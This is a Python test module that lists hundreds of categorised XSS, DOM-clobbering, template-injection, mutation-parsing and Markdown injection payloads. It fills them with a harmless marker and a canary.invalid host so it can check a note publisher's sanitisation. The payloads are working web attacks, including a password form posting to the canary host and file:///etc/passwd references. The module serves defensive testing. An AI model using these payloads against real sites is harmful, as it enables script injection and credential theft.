"""What an attacker might write, by the kind of attack. Each is put into every place that a note has.

In a payload, `RUN` stands for a script that leaves a sign in the page's window, `FAR` for an address on
another host, and `§` for a number that tells this payload in this place from every other.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass
from typing import Final

CANARY_HOST: Final = "canary.invalid"
SIGN: Final = "__pwned"
"""The name that a script leaves in the window, if one runs."""
WORD: Final = "payload"
"""Begins the word that stands beside each payload, by which it is found where it was put."""

_BY_ATTACK: Final[dict[str, tuple[str, ...]]] = {
    "Scripts": (
        "<script>RUN</script>",
        "<SCRIPT SRC=FAR></SCRIPT>",
        "<scr<script>ipt>RUN</scr</script>ipt>",
        "<script\x0c>RUN</script >",
        "<script/x>RUN</script\t\n bar>",
        "<<script>RUN//<</script>",
        "<script type=module>import'FAR'</script>",
        '<script type=importmap>{"imports":{"x":"FAR"}}</script>',
        '<script type=speculationrules>{"prefetch":[{"urls":["FAR"]}]}</script>',
        "<script>/*</p>*/RUN</script>",
        "</script><script>RUN</script>",
        "'\"><script>RUN</script>",
        "`;RUN;//",
        "</title></textarea></style></noscript></template></xmp><script>RUN</script>",
        '\\"><script>RUN</script>',
        "&lt;script&gt;RUN&lt;/script&gt;",
        "&#60;script&#62;RUN&#60;/script&#62;",
        "\uff1cscript\uff1eRUN\uff1c/script\uff1e",
    ),
    "Event handlers": (
        "<img src=x onerror=RUN>",
        "<IMG/SRC=x/ONERROR=RUN>",
        "<img src=x onerror\x0c=\x0cRUN>",
        '<img src="x"onerror="RUN">',
        "<img src='x' alt='' title='' onload=RUN onerror='RUN'>",
        "<details open ontoggle=RUN>x</details>",
        "<body onload=RUN onpageshow=RUN>",
        "<p onclick=RUN onmouseover=RUN onpointerenter=RUN onfocus=RUN tabindex=0 autofocus>x</p>",
        "<input autofocus onfocus=RUN>",
        "<div onanimationstart=RUN ontransitionend=RUN onbeforetoggle=RUN popover>x</div>",
        "<video src=x onerror=RUN onloadstart=RUN><source onerror=RUN></video>",
        "<marquee onstart=RUN>x</marquee>",
        "<a href=x onclick=RUN onauxclick=RUN>x</a>",
        '" onmouseover="RUN" x="',
        "' onfocus='RUN' tabindex='0' autofocus x='",
        " onmouseover=RUN autofocus onfocus=RUN x=",
        '"onerror=RUN src=x><img src=x "',
        "<x onfocusin=RUN contenteditable autofocus>x",
        "<button popovertarget=x onclick=RUN>x</button><div popover id=x ontoggle=RUN>y</div>",
    ),
    "Dangerous addresses": (
        "javascript:RUN",
        "JaVaScRiPt:RUN",
        "java\tscript:RUN",
        "java&#10;script:RUN",
        "java&Tab;script:RUN",
        "javascript&colon;RUN",
        "&#x6A;avascript:RUN",
        "\\javascript:RUN",
        "%6Aavascript:RUN",
        "\x01javascript:RUN",
        "\u00a0javascript:RUN",
        "javascript://%0aRUN",
        "javascript:RUN//https://ok.example/",
        "https://javascript:RUN@FAR",
        "vbscript:RUN",
        "data:text/html,<script>RUN</script>",
        "data:text/html;base64,PHNjcmlwdD5fX3B3bmVkPTE8L3NjcmlwdD4=",
        "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'/>",
        "blob:FAR",
        "file:///etc/passwd?§",
        "view-source:FAR",
        "feed:javascript:RUN",
        "intent:FAR#Intent;scheme=https;end",
        "ms-msdt:/id§",
        "FAR",
        "\\\\canary.invalid\\§",
        "/\\canary.invalid/§",
        "https:canary.invalid/§",
        "http:/\\canary.invalid/§",
        "<a href='javascript:RUN'>x</a>",
        "<a href=' &#14; javascript:RUN'>x</a>",
        "<a href='java\nscript:RUN'>x</a>",
        "<a xlink:href='javascript:RUN' href='vbscript:RUN'>x</a>",
        "<img src='javascript:RUN' srcset='FAR 2x' lowsrc=FAR dynsrc=FAR longdesc='javascript:RUN'>",
        "<video poster=FAR src=FAR></video><audio src=FAR></audio><track src=FAR>",
        "<picture><source srcset=FAR><img srcset='FAR 1x, FAR 2x' src=FAR></picture>",
        "<blockquote cite='javascript:RUN'>x</blockquote><q cite='javascript:RUN'>x</q>",
        "<area href='javascript:RUN' ping=FAR><a ping=FAR href=FAR>x</a>",
        "<table background=FAR><td background=FAR>x</table><body background=FAR>",
    ),
    "SVG and MathML": (
        "<svg onload=RUN>",
        "<svg><script>RUN</script></svg>",
        "<svg><script href=FAR /></svg>",
        "<svg><animate onbegin=RUN attributeName=x dur=1s></svg>",
        "<svg><a xlink:href='javascript:RUN'><text y=9>x</text></a></svg>",
        "<svg><set attributeName=href to='javascript:RUN'/><a id=x><text>x</text></a></svg>",
        "<svg><use href='data:image/svg+xml,<svg id=x onload=RUN/>#x' xlink:href=FAR /></svg>",
        "<svg><foreignObject><body onload=RUN></foreignObject></svg>",
        "<svg><image href=FAR /><feImage href=FAR /></svg>",
        "<svg><style>@import 'FAR';</style></svg>",
        "<svg><handler type='application/javascript'>RUN</handler></svg>",
        "<math><mi xlink:href='javascript:RUN'>x</mi></math>",
        "<math href='javascript:RUN'><mtext>x</mtext></math>",
        "<math><annotation-xml encoding='text/html'><script>RUN</script></annotation-xml></math>",
        "<math><maction actiontype='statusline#FAR' xlink:href='javascript:RUN'>x</maction></math>",
    ),
    "The document itself": (
        "<base href=FAR>",
        "<base target=_blank href='javascript:/RUN/'>",
        "<meta http-equiv=refresh content='0;url=FAR'>",
        "<meta http-equiv=refresh content='0;url=javascript:RUN'>",
        "<meta http-equiv=Content-Security-Policy content='script-src *'>",
        "<meta http-equiv=set-cookie content=a=§><meta charset=utf-7>",
        "<link rel=stylesheet href=FAR>",
        "<link rel=import href=FAR><link rel=preload as=script href=FAR><link rel=modulepreload href=FAR>",
        "<link rel=prefetch href=FAR><link rel=dns-prefetch href=FAR><link rel=icon href=FAR>",
        "<link rel=manifest href=FAR><html manifest=FAR>",
        "<title>RUN</title><head profile=FAR></head>",
        "</head><body onload=RUN></body></html>",
        "<html onmouseover=RUN><body class=md-x>",
    ),
    "Frames and plug-ins": (
        "<iframe src=FAR></iframe>",
        "<iframe srcdoc='<script>parent.RUN</script>'></iframe>",
        "<iframe src='javascript:parent.RUN'></iframe>",
        "<object data=FAR><param name=movie value=FAR></object>",
        "<embed src=FAR><embed code=FAR allowscriptaccess=always>",
        "<applet code=FAR archive=FAR></applet>",
        "<frameset onload=RUN><frame src='javascript:RUN'></frameset>",
        "<portal src=FAR></portal><fencedframe src=FAR></fencedframe>",
        "<isindex type=image src=FAR onerror=RUN action=FAR>",
        "<bgsound src=FAR><layer src=FAR></layer><ilayer src=FAR></ilayer>",
    ),
    "Forms": (
        "<form action=FAR><input name=password><button>x</button></form>",
        "<form action='javascript:RUN'><button formaction='javascript:RUN'>x</button></form>",
        "<button form=x formaction=FAR>x</button><form id=x></form>",
        "<input type=image src=FAR formaction=FAR><input type=hidden name=x value=§>",
        "<select autofocus onfocus=RUN><option>x</select><textarea autofocus onfocus=RUN>x</textarea>",
        "<input type=submit form=codex-find formaction=FAR><input list=x><datalist id=x></datalist>",
        "<label for=__drawer>x</label><label for=__palette_1>y</label><output form=x></output>",
        "<keygen autofocus onfocus=RUN><dialog open>x<form method=dialog><button>y</button></form></dialog>",
        "</form><form action=FAR>",
    ),
    "Styles": (
        "<style>*{display:none}</style>",
        "<style>@import 'FAR';</style>",
        "<style>body{background:url(FAR)}",
        "<p style='position:fixed;inset:0;background:url(FAR)'>x</p>",
        "<p style='behavior:url(FAR);-moz-binding:url(FAR)'>x</p>",
        "<p style='width:expression(RUN)'>x</p>",
        "<a style='display:block;position:fixed;inset:0;z-index:9' href=FAR>x</a>",
        "<div class='md-header md-overlay md-search' data-md-component=search data-md-state=active>x</div>",
        "<div class='codex-preview codex-problem--error headerlink' hidden>x</div>",
        "<font style=color:red color=red face=x>x</font><center>x</center>",
        "<link rel=stylesheet href='data:text/css,*{display:none}'>",
        "</style><style>@font-face{font-family:x;src:url(FAR)}",
    ),
    "Clobbered names": (
        "<a id=__config>x</a><a id=__search name=__search>x</a>",
        "<b id=__drawer></b><b id=__toc></b><b id=__palette></b><b id=__palette_0></b><b id=__palette_1></b>",
        "<a id=document name=location>x</a><img name=documentElement><img id=body name=body>",
        "<img name=currentScript src=FAR><a id=currentScript name=src href=FAR></a>",
        "<form id=__md_scope name=__md_scope><input name=pathname></form>",
        "<a id=__md_get></a><a id=__md_set></a><a id=__md_hash></a><a id=__md_scope href=FAR></a>",
        "<form name=getElementById></form><img name=querySelector><img name=querySelectorAll>",
        "<form><input name=attributes><input name=children><input id=nodeName name=parentNode></form>",
        "<a id=codex-main></a><a id=codex-find></a><a id=codex-results></a><a id=codex-facets></a>",
        "<a id=codex-preview></a><a id=codex-problems></a><a id=related></a><a id=codex-graph-titles></a>",
        "<a id=defaultView></a><a id=location></a><a id=history></a><a id=localStorage></a><a id=top></a>",
        "<object id=x name=cookie></object><embed name=cookie><iframe name=self></iframe>",
        "<a id=__proto__ name=__proto__>x</a><a id=constructor></a><a id=toString></a>",
        "<input id=__search type=checkbox checked data-md-toggle=search><label for=__search>x</label>",
        "__proto__",
        "constructor",
        "__config",
        "<a id='x\"y'></a><a href='#x%22y'>z</a>",
    ),
    "Changing on being read again": (
        "<noscript><p title='</noscript><img src=x onerror=RUN>'></noscript>",
        "<noscript><style></noscript><img src=x onerror=RUN></style>",
        "<svg></p><style><a id='</style><img src=x onerror=RUN>'>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=RUN&gt;'>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN>",
        "<svg><title><![CDATA[</title><img src=x onerror=RUN>]]></svg>",
        "<math><annotation-xml encoding=text/html><style><img title='</style><img src=x onerror=RUN>'>",
        "<svg><desc><b><noembed></desc><img title='</noembed><img src=x onerror=RUN>'></svg>",
        "<!--><img src=x onerror=RUN>-->",
        "<!--- --!><img src=x onerror=RUN> -->",
        "<!-- x --><img src=x onerror=RUN><!-- --!>",
        "<![CDATA[><img src=x onerror=RUN>]]>",
        "<?xml><img src=x onerror=RUN>?>",
        "<!DOCTYPE x [<!ENTITY y '<img src=x onerror=RUN>'>]>&y;",
        "<xmp><img src=x onerror=RUN></xmp><plaintext><img src=x onerror=RUN>",
        "<textarea><img title='</textarea><img src=x onerror=RUN>'>",
        "<title><img title='</title><img src=x onerror=RUN>'>",
        "<listing>&lt;img src=x onerror=RUN&gt;</listing>",
        "<template><script>RUN</script></template><p><template shadowrootmode=open><img src=x onerror=RUN>",
        "<div><template shadowrootmode=open><slot></slot><script>RUN</script></template></div>",
        "<select><iframe></select><img src=x onerror=RUN>",
        "<select><template><style><!--</style><a rel='--></style></select></template><img onerror=RUN src>'>",
        "<table><tr><script>RUN</script><td>x</table><caption><script>RUN</script>",
        "<a<img src=x onerror=RUN>",
        "<div\n\n<img src=x onerror=RUN>",
        "<b title=`<img src=x onerror=RUN>`>x</b>",
        "<p title='--><img src=x onerror=RUN>'>x",
        "<a><a><b><i><p><a><table><a><form><form><b>x",
        "</article></main></div></div><div class=md-footer><script>RUN</script>",
        "<iframe><!--</iframe><img src=x onerror=RUN>-->",
        "<noembed><img title='</noembed><img src=x onerror=RUN>'></noembed>",
        "<img src=x title='&quot;&gt;&lt;img src=x onerror=RUN&gt;'>",
    ),
    "Out of JSON, XML and comments": (
        "</script><!--<script>RUN",
        "<!--<script>",
        "-->",
        "--!><img src=x onerror=RUN>",
        "]]><script>RUN</script><![CDATA[",
        "]]>]]><x:script xmlns:x='http://www.w3.org/1999/xhtml'>RUN</x:script>",
        '"}]}</script><script>RUN</script>',
        '","x":{"y":"',
        "\\u003c/script\\u003e\\u003cscript\\u003eRUN",
        "\\",
        "\u2028RUN\u2029",
        "&x; &#0; &#xD800; &amp;lt;script&amp;gt; %3Cscript%3E",
        "<?xml-stylesheet href='FAR'?>",
        "*/RUN/*",
        "${RUN} #{RUN} <%= RUN %> {%RUN%}",
    ),
    "Templates": (
        "{{ 7*7 }}§",
        "{{ config }}§",
        "{% raw %}§",
        "{% endraw %}{{ 7*7 }}§",
        "{% include 'main.html' %}§",
        "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}§",
        "{# §",
        "{{ ''.__class__.__mro__ }}§",
        "\x02content\x03 \x02title\x03 \x02head\x03§",
        "{page.title} %(title)s $title §",
        "!ENV [HOME, §]",
        "codex:0 codex:§ n-§",
    ),
    "Characters": (
        "a\u202ecod.exe\u202c§",
        "a\u2066\u2067§",
        "\u061c\u200f§\u200e",
        "a\u0000b§",
        "a\x1b[31mred\x07§",
        "a\u200b\u200c\u200d\ufeffb§",
        "a\u0085b\u2028c\u2029d§",
        "e" + "\u0301" * 30 + "§",
        "\ufffe\uffff\U000e0041\U000e0001§",
        "\u00ad\u034f\u180e§",
        "\r\ra\r\nb\x0bc\x0c§",
        "\ud7ff\ue000\uf8ff§",
        "a\x7f\x80\x9f\x9b31m§",
        "\ufdfd\U0001f468\u200d\U0001f469\u200d\U0001f467§",
        "ﬀ\u212a\u0130ı§",
    ),
    "Markdown": (
        "[x](javascript:RUN)",
        '[x](<javascript:RUN> "y")',
        "[x](java&#x0A;script:RUN)",
        "[x](data:text/html,<script>RUN</script>)",
        "![x](FAR)",
        "![x](javascript:RUN)",
        '![x" onerror="RUN](y \'a" onerror="RUN\')',
        '[x](y "\\"><script>RUN</script>")',
        "[x]: javascript:RUN\n\n[x]",
        "<javascript:RUN>",
        '<https://x"onclick=RUN>',
        'https://x.example/"onmouseover="RUN',
        "www.x.example/<script>RUN</script>",
        "x[^§]\n\n[^§]: <script>RUN</script>",
        "[^<script>RUN</script>]",
        "| <script>RUN</script> | x |\n|---|---|\n| <img src=x onerror=RUN> | `<script>RUN</script>` |",
        "# x {onclick=RUN .md-header #__search}",
        "## __config {: onclick=RUN }",
        '```x"onmouseover="RUN\ny\n```',
        "```<script>RUN</script>\n</code></pre><script>RUN</script>\n```",
        '```mermaid\ngraph TD; A["<img src=x onerror=RUN>"]; click A "javascript:RUN"\n```',
        "`` ` ``<script>RUN</script>",
        "> [!NOTE]<script>RUN</script>\n> x",
        '!!! note "<script>RUN</script>"\n    x',
        "- [ ] <script>RUN</script>\n- [x](javascript:RUN)",
        "[[javascript:RUN]]",
        "[[x|<img src=x onerror=RUN>]]",
        '[[x#" onclick="RUN|y]]',
        "![[javascript:RUN]]",
        "![[x.svg]] ![[x.html|<script>RUN</script>]]",
        "x ^__config",
        "$$\\href{javascript:RUN}{x}$$ \\(\\unicode{<img src=x onerror=RUN>}\\)",
        '*[x]: <script>RUN</script>\n\n--8<-- "mkdocs.yml"',
        "[a](b){onclick=RUN} ==x== ++y++ {--z--}",
        ":material-x: :fontawesome-brands-x:{ onclick=RUN }",
        "[TOC]\n\n::: codex_publisher\n\n{{#include mkdocs.yml}}",
        "<http://x.example/?<script>RUN</script>>",
        "%%<script>RUN</script>%%",
    ),
}


@dataclass(frozen=True, slots=True)
class Payload:
    """A text that should do harm."""

    number: int
    attack: str
    text: str

    def at(self, place: int) -> str:
        """The text as it is put into a place, which has a number of its own, and nothing else."""
        mark = str(mark_of(self.number, place))
        shorthand = (("RUN", f"{SIGN}=§"), ("FAR", f"//{CANARY_HOST}/§"), ("§", mark))
        text = self.text
        for short, whole in shorthand:
            text = text.replace(short, whole)
        return text

    def named(self, place: int) -> str:
        """The same with a word before it, by which it can be found on a page."""
        return f"{word_of(self.number, place)} {self.at(place)}"


PLACES: Final = 100
"""More than there are places in a note."""
_FIRST: Final = 100


def mark_of(payload: int, place: int) -> int:
    """The number, of five digits, that tells a payload in a place from every other."""
    return (_FIRST + payload) * PLACES + place


def word_of(payload: int, place: int) -> str:
    """The word that stands before a payload in a place."""
    return f"{WORD}{mark_of(payload, place)}"


def payload_of(mark: int) -> tuple[int, int]:
    """The numbers of the payload and the place that a mark stands for."""
    return mark // PLACES - _FIRST, mark % PLACES


def _all() -> Iterator[Payload]:
    texts = ((attack, text) for attack, some in _BY_ATTACK.items() for text in some)
    for number, (attack, text) in enumerate(texts):
        yield Payload(number, attack, text)


PAYLOADS: Final = tuple(_all())
ATTACKS: Final = tuple(_BY_ATTACK)
